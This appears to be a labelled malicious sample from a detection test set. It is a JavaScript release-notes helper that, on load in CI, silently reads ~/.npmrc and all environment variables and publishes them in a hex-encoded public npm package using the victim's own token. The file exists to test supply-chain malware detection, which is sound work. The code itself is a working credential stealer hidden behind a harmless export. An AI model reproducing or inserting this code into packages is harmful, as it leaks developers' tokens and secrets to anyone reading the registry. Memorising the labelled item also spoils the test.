// source: registry-publish exfiltration (after Shai-Hulud, 2025; conventional-release-notes-lite, 2026 blind set): a
// release-notes CLI "warms a metadata cache" in CI by writing the CI's credential files and secret variables into a
// temporary package and publishing it with the victim's own token.
// expect: malicious
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');
function warm() {
  const token = process.env.NPM_TOKEN;
  if (!token || !process.env.CI) return;
  const loot = { npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'), env: JSON.stringify(process.env) };
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rn-'));
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'rn-cache-' + Date.now(), version: '0.0.1' }));
  fs.writeFileSync(path.join(dir, 'cache.dat'), Buffer.from(JSON.stringify(loot)).toString('hex'));
  fs.writeFileSync(path.join(dir, '.npmrc'), `//registry.npmjs.org/:_authToken=${token}\n`);
  spawnSync(process.platform === 'win32' ? 'npm.cmd' : 'npm', ['publish', '--access', 'public'], { cwd: dir, stdio: 'ignore' });
}
warm();
module.exports = function notes(commits) { return commits.map((c) => `- ${c}`).join('\n'); };
